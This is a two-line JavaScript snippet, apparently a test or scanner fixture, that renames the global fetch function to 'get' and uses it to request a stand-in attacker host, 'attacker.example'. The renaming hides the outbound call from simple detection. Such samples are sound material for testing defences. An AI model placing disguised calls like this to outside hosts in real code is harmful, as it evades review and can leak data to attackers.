const { fetch: get } = globalThis
get('https://attacker.example/')
